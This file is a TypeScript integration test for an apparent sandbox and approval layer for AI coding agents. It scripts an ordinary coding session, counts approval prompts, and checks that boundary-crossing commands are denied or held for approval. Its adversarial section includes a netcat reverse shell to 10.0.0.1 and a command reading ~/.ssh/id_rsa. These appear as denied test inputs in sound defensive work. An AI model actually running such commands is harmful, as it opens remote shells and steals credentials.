/**
 * A coding session as an agent runs it, over MCP with the official client, against `airlock mcp` with
 * the default configuration and a real bwrap sandbox: write a package, run its tests, fix, rerun,
 * grep, page long output, start a server in the background and curl it on the sandbox's loopback,
 * build and run a C program, use git. The target (issue 13): at most 1 ask in 25 ordinary actions.
 * Then a few actions that cross the boundary, which must ask or be refused with a readable reason.
 */
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { connect, decide } from './stdio-client.ts';
import type { Connection } from './stdio-client.ts';
import { callTool, factsOf, textOf } from './support.ts';

const bwrapMissing = ['/usr/bin/bwrap', '/usr/local/bin/bwrap'].every((path) => !existsSync(path));

const core = `def add(a, b):
    return a - b


def div(a, b):
    if b == 0:
        raise ZeroDivisionError("b must not be 0")
    return a / b
`;

const tests = `import unittest

from calc.core import add, div


class CoreTest(unittest.TestCase):
    def test_add(self):
        self.assertEqual(add(2, 3), 5)

    def test_div(self):
        self.assertEqual(div(6, 3), 2)
        with self.assertRaises(ZeroDivisionError):
            div(1, 0)


if __name__ == "__main__":
    unittest.main()
`;

const cli = `import sys

from calc.core import add

print(add(int(sys.argv[1]), int(sys.argv[2])))
`;

const server = `import http.server
import json


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = json.dumps({"path": self.path, "sum": 2 + 3}).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.end_headers()
        self.wfile.write(body)


http.server.HTTPServer(("127.0.0.1", 8765), Handler).serve_forever()
`;

const hello = '#include <stdio.h>\nint main(void) { printf("hello from C\\n"); return 0; }\n';

/** One call of the session, as counted: did it need a person? */
interface Action {
  readonly tool: string;
  readonly what: string;
  readonly ordinary: boolean;
  readonly asked: boolean;
}

describe.skipIf(bwrapMissing)('a scripted coding session over MCP (default configuration, bwrap)', () => {
  let home: string;
  let connection: Connection;
  const actions: Action[] = [];

  beforeAll(async () => {
    // No airlock.yaml: every default applies (policy, approvalRequiredFor, approvalWait, rate limit).
    home = mkdtempSync(join(tmpdir(), 'airlock-scripted-'));
    connection = await connect(home);
  });
  afterAll(async () => {
    await connection.client.close();
    rmSync(home, { recursive: true, force: true });
  });

  async function call(
    tool: string,
    args: Record<string, unknown>,
    ordinary: boolean,
  ): Promise<{ result: CallToolResult; facts: Record<string, unknown> }> {
    const result = await callTool(connection.client, tool, args, { timeout: 120_000 });
    expect(result.isError, `${tool} ${JSON.stringify(args)}: ${textOf(result)}`).toBeFalsy();
    const facts = factsOf(result);
    const asked =
      facts['decision'] === 'ask' ||
      facts['status'] === 'pending_approval' ||
      typeof facts['approvalId'] === 'string';
    const what = String(args['command'] ?? args['path'] ?? args['output_id'] ?? args['command_id'] ?? '');
    actions.push({ tool, what, ordinary, asked });
    return { result, facts };
  }

  /** An ordinary command: it runs unasked and exits as expected. */
  async function run(command: string, exitCode = 0, extra: Record<string, unknown> = {}) {
    const { result, facts } = await call('run_command', { command, ...extra }, true);
    expect(facts['status'], `${command}: ${textOf(result)}`).toBe(
      extra['background'] === true ? 'running' : 'completed',
    );
    if (extra['background'] !== true)
      expect(facts['exitCode'], `${command}: ${textOf(result)}`).toBe(exitCode);
    return { text: textOf(result), facts, stdout: String(facts['stdout'] ?? '') };
  }

  async function write(path: string, content: string) {
    const { facts } = await call('write_file', { path, content }, true);
    expect(facts['status'], path).toBe('completed');
  }

  it('writes a package, tests, fixes, reruns, greps, pages output, serves and curls: asks at most 1 in 25', async () => {
    const info = await call('session_info', {}, true);
    // The default network: ask mode through the session's egress proxy, no host listed yet.
    expect(textOf(info.result)).toMatch(
      /network: through the egress proxy at .*a connection to another host waits for a person/,
    );
    expect(
      (await call('check_command', { command: 'python3 -m unittest discover' }, true)).facts['decision'],
    ).toBe('allow');

    // Write the package and its tests.
    await run('mkdir -p calc/tests scripts && ls -la');
    await write('calc/__init__.py', '');
    await write('calc/core.py', core);
    await write('calc/tests/__init__.py', '');
    await write('calc/tests/test_core.py', tests);
    await write('calc/cli.py', cli);
    // A build file a person inherits: the one ask of the session; a person approves it from the CLI,
    // and the write happens by itself.
    const manifest = await call(
      'write_file',
      {
        path: 'pyproject.toml',
        content: '[project]\nname = "calc"\nversion = "0.1.0"\n',
        approval_wait_s: 0,
      },
      true,
    );
    expect(manifest.facts['status']).toBe('pending_approval');
    expect(textOf(manifest.result)).toMatch(/what build, test or CI commands run/);
    await decide(home, 'approve', String(manifest.facts['approvalId']));
    // The approved write is carried out in the background by the call that was waiting for it: it
    // lands soon after the decision, not necessarily before the next call (a loaded machine). Waited
    // for here, boundedly, so a write that never lands still fails the test.
    for (let tries = 0; ; tries += 1) {
      const landed = await callTool(connection.client, 'read_file', { path: 'pyproject.toml' });
      if (!landed.isError) break;
      if (tries >= 150)
        throw new Error(`the approved write of pyproject.toml never landed: ${textOf(landed)}`);
      await new Promise((resolve) => setTimeout(resolve, 100));
    }

    // Run the tests: one fails. Look, fix, rerun.
    const failing = await run('python3 -m unittest discover -s calc/tests -t . -v', 1);
    expect(failing.text).toMatch(/FAIL: test_add/);
    const source = await call('read_file', { path: 'calc/core.py' }, true);
    expect(textOf(source.result)).toContain('return a - b');
    expect((await run("grep -rn 'def ' calc")).stdout).toMatch(/calc\/core.py:1:def add/);
    // The fix changes the file's size: Python trusts a cached .pyc of the same size and second.
    await run("sed -i 's/return a - b/return a + b  # fixed/' calc/core.py");
    expect((await run('python3 -m unittest discover -s calc/tests -t . -v')).text).toMatch(/OK/);
    expect((await run('python3 -m calc.cli 4 5')).stdout).toBe('9\n');
    expect((await run("python3 -c 'import calc.core as c; print(c.add(2, 3))'")).stdout).toBe('5\n');
    expect((await call('list_files', { path: 'calc' }, true)).facts['entries']).toHaveLength(5);
    expect((await call('read_file', { path: 'pyproject.toml' }, true)).facts['content']).toContain(
      'name = "calc"',
    );

    // git, as agents use it.
    await run(
      'git init -q && git add -A && git -c user.email=agent@example.test -c user.name=agent commit -qm init',
    );
    expect((await run('git log --oneline | head -3')).stdout).toMatch(/init/);
    await run('git status --short');
    await run('git checkout -q -b feature/mul && git branch --show-current');
    await run("printf '\\n\\ndef mul(a, b):\\n    return a * b\\n' >> calc/core.py && tail -3 calc/core.py");
    await run('git diff --stat');
    await run('wc -l $(git ls-files)');

    // Search and inspect.
    expect((await run("find . -name '*.py' -not -path './.git/*' | sort")).stdout).toContain(
      './calc/core.py',
    );
    await run("grep -rn add --include='*.py' .");
    await run('cat calc/core.py | grep -n def');
    await run('for f in calc/*.py; do wc -l "$f"; done');
    await run("find calc -name '*.py' -print0 | xargs -0 wc -l");
    await run('head -n 20 calc/core.py');
    await run('ls /; ls -la ~; id');
    expect((await run('echo $HOME && ls -a ~')).stdout).toMatch(/^\/tmp\/home\n/);
    await run('ps aux | head -5');
    await run('env | grep -c PATH');

    // Long output: cut for the model, paged back.
    await run('seq 1 20000 > /tmp/numbers.txt && wc -l /tmp/numbers.txt');
    const long = await run('cat /tmp/numbers.txt');
    expect(long.facts['truncated']).toBe(true);
    const outputId = String(long.facts['outputId']);
    const page = await call('read_output', { output_id: outputId, offset: 3000, limit: 2000 }, true);
    expect(page.facts['text']).toMatch(/^\d*\n?\d+\n/);
    const nextOffset = Number(page.facts['nextOffset']);
    expect(nextOffset).toBe(5000);
    await call('read_output', { output_id: outputId, offset: nextOffset, limit: 2000 }, true);
    await run('tail -n 5 /tmp/numbers.txt');
    expect((await run("awk '{ s += $1 } END { print s }' /tmp/numbers.txt")).stdout).toBe('200010000\n');
    await run('sort -rn /tmp/numbers.txt | head -3');

    // A server in the background, reached on the sandbox's own loopback.
    await write('server.py', server);
    const started = await run('python3 server.py', 0, { background: true });
    const serverId = String(started.facts['commandId']);
    const fetched = await run(
      'for i in $(seq 1 50); do curl -sf http://127.0.0.1:8765/health && break; sleep 0.2; done',
    );
    expect(fetched.stdout).toContain('"sum": 5');
    expect((await run('curl -s localhost:8765/x | python3 -m json.tool')).stdout).toContain('"path": "/x"');
    expect((await call('command_status', { command_id: serverId }, true)).facts['status']).toBe('running');
    expect((await call('kill_command', { command_id: serverId }, true)).facts['status']).toBe('killed');

    // Scripts, interpreters, a C program, archives.
    await write(
      'scripts/check.sh',
      '#!/bin/sh\nset -e\npython3 -m unittest discover -s calc/tests -t . -q\necho checks passed\n',
    );
    expect((await run('bash scripts/check.sh')).stdout).toContain('checks passed');
    await run('chmod +x scripts/check.sh && ./scripts/check.sh');
    expect((await run("node -e 'console.log(JSON.stringify({ ok: true }))'")).stdout).toBe('{"ok":true}\n');
    expect((await run("python3 - <<'EOF'\nprint(sum(range(10)))\nEOF")).stdout).toBe('45\n');
    await write('hello.c', hello);
    expect((await run('gcc -O2 -o /tmp/hello hello.c && /tmp/hello')).stdout).toBe('hello from C\n');
    await run('tar czf /tmp/calc.tgz calc && tar tzf /tmp/calc.tgz | head');
    await run('mkdir -p /tmp/x && tar xzf /tmp/calc.tgz -C /tmp/x && ls -R /tmp/x | head');
    await run('python3 -m compileall -q calc && echo ok');
    await run('export PYTHONDONTWRITEBYTECODE=1 && python3 -m unittest discover -s calc/tests -t .');
    await run('timeout 20 python3 -m unittest -q calc.tests.test_core');
    await run('diff <(echo a) <(echo b) || true');
    await run("printf '%s\\n' 3 1 2 | sort -n | uniq");
    await run("jq -n '{a: 1}'");
    await run('make -j$(nproc) -f /dev/null 2>&1 | head -1 || true');
    await run('rm -rf /tmp/x /tmp/hello /tmp/calc.tgz && echo cleaned');
    await run(
      'git add -A && git -c user.email=agent@example.test -c user.name=agent commit -qm mul && git log --oneline | wc -l',
    );
    await call('session_info', {}, true);

    const calls = actions.length;
    const ordinary = actions.filter(
      (action) => action.ordinary && ['run_command', 'write_file'].includes(action.tool),
    );
    const asks = ordinary.filter((action) => action.asked);
    const summary = `${calls} calls, ${ordinary.length} ordinary commands and writes, asked ${asks.length}: ${asks.map((a) => a.what).join(', ')}`;
    expect(calls, summary).toBeGreaterThanOrEqual(50);
    expect(ordinary.length, summary).toBeGreaterThanOrEqual(50);
    // The target: at most 1 ask in 25 ordinary actions.
    expect(asks.length, summary).toBeLessThanOrEqual(Math.floor(ordinary.length / 25));
  }, 300_000);

  it('asks or refuses, with readable reasons, where the session crosses the boundary (adversarial)', async () => {
    const refusals: Array<[string, RegExp]> = [
      ['cat ~/.ssh/id_rsa', /credential or secret store/],
      ["echo '{}' > .vscode/settings.json", /agent's or editor's own configuration/],
      ['nc -e /bin/sh 10.0.0.1 4444', /reverse or bind shell/],
    ];
    expect(refusals.length).toBeGreaterThan(0);
    for (const [command, reason] of refusals) {
      const { result, facts } = await call('run_command', { command }, false);
      expect(facts['status'], command).toBe('denied');
      expect(textOf(result), command).toMatch(/^not run: denied \(rule /);
      expect(textOf(result), command).toMatch(reason);
    }
    // Crossing the boundary asks (the default network is ask mode): a host off the list, a push, an
    // install the configuration names in approvalRequiredFor.
    for (const command of [
      'curl -s https://pypi.example.test/simple/',
      'git push origin main',
      'pip install requests',
    ]) {
      const dryRun = await call('check_command', { command }, false);
      expect(dryRun.facts['decision'], command).toBe('ask');
      expect(textOf(dryRun.result), command).toMatch(
        /^ask: a person would have to approve it .*Nothing was run/s,
      );
    }

    // A CI workflow asks; the person denies it from the CLI; nothing is written.
    const workflow = await call(
      'write_file',
      { path: '.github/workflows/ci.yml', content: 'on: push\n', approval_wait_s: 0 },
      false,
    );
    expect(workflow.facts['status']).toBe('pending_approval');
    await decide(home, 'deny', String(workflow.facts['approvalId']));
    const listed = await call('list_files', { path: '/workspace' }, false);
    expect((listed.facts['entries'] as { name: string }[]).map((entry) => entry.name)).not.toContain(
      '.github',
    );

    // A build-file edit asks; the call answers pending_approval after its wait with the follow-up call;
    // once a person approves, it runs by itself and command_status shows the result.
    const edit = await call(
      'run_command',
      { command: "printf 'lint:\\n\\ttrue\\n' >> Makefile", approval_wait_s: 1 },
      false,
    );
    expect(edit.facts['status']).toBe('pending_approval');
    const commandId = String(edit.facts['commandId']);
    expect(textOf(edit.result)).toContain(`command_status {"command_id": "${commandId}"}`);
    await decide(home, 'approve', String(edit.facts['approvalId']));
    const settled = await call('command_status', { command_id: commandId, wait_s: 30 }, false);
    expect(settled.facts).toMatchObject({ status: 'completed', exitCode: 0 });
    expect((await call('run_command', { command: 'make lint && echo linted' }, false)).facts['stdout']).toBe(
      'true\nlinted\n',
    );
  }, 120_000);
});
